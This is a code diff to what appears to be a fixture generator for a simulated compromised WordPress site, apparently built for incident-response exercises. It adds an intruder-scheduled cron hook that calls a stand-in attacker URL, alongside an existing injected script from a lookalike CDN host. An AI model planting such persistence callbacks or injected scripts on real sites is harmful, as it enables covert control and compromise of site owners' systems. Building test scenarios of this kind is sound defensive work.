@@ -116,6 +116,8 @@ class Site:
     injected_post: str = ""
     injected_script: str = ""
     dump_name: str = ""  # the admin's old dump in uploads (phase 1), if any
+    #: A WP-cron event the intruder scheduled (phase 3): hook name and its one argument.
+    rogue_cron: tuple[str, str] = ("", "")
 
     @property
     def url(self) -> str:
@@ -229,6 +231,7 @@ BLOG = Site(
     injected_script='<script src="https://cdn.jsdelivr-cache.example.net/jquery.min.js?v=3.1">'
                     "</script>",
     dump_name="2015_06_01_database.sql",
+    rogue_cron=("wp_session_gc_ping", "http://203.0.113.66/p.php"),
 )
 
 NEWS = Site(
@@ -324,6 +327,7 @@ def populate_spec(site: Site, seed: str) -> dict[str, Any]:
         "options": site.options,
         "injected_post": site.injected_post,
         "injected_script": site.injected_script,
+        "rogue_cron": list(site.rogue_cron),
         "salt_options": salts,
         # Cron events are scheduled from time(); rebase them onto this instant.
         "fixed_time": 1717200000,  # 2024-06-01 00:00:00 UTC
